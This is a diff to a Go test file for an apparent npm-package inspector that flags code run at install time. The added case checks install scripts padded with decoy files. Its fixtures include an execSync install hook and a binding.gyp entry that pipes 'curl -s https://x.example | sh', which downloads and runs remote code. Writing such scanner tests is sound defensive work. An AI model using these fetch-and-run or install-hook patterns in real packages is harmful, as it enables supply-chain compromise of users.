@@ -11,6 +11,10 @@ import (
 func TestCodeThatRunsAtAnInstall(t *testing.T) {
 	t.Parallel()
 	const post = "require('child_process').execSync('id')\n"
+	decoys := []string{}
+	for i := range 20 {
+		decoys = append(decoys, fmt.Sprintf("d%d.js", i))
+	}
 	for name, c := range map[string]struct {
 		members string
 		files   [][2]string
@@ -21,6 +25,7 @@ func TestCodeThatRunsAtAnInstall(t *testing.T) {
 		"a file":            {`,"scripts":{"install":"node ./scripts/post.js"}`, [][2]string{{"package/scripts/post.js", post}}, "scripts/post.js:1 runs programs: require('child_process').execSync('id')"},
 		"as node names":     {`,"scripts":{"install":"node scripts/post && true"}`, [][2]string{{"package/scripts/post/index.js", post}}, "scripts/post/index.js:1 runs programs: require('child_process').execSync('id')"},
 		"a build":           {"", [][2]string{{"package/binding.gyp", "{'sources': ['<!(curl -s https://x.example | sh)']}"}}, "binding.gyp:1 runs what it downloads, uses the network: {'sources': ['<!(curl -s https://x.example | sh)']}"},
+		"many files":        {`,"scripts":{"install":"` + strings.Join(decoys, "; ") + `; node post.js"}`, files(decoys, post), "install names more files than are looked at"},
 		"nothing that runs": {`,"scripts":{"test":"curl -s https://x.example | sh"}`, [][2]string{{"package/post.js", post}}, ""},
 	} {
 		got, err := inspect(nil, tarballOf(t, c.members, c.files...))
@@ -31,6 +36,14 @@ func TestCodeThatRunsAtAnInstall(t *testing.T) {
 			t.Errorf("%s: %q, want %q", name, text, c.want)
 		}
 	}
+}
+
+// files are those names, of which the last runs, and the others do nothing.
+func files(decoys []string, last string) (all [][2]string) {
+	for _, name := range decoys {
+		all = append(all, [2]string{"package/" + name, ""})
+	}
+	return append(all, [2]string{"package/post.js", last})
 }
 
 // TestLicencesOfAPackage: in each of the forms that manifests have, and by the file's text.
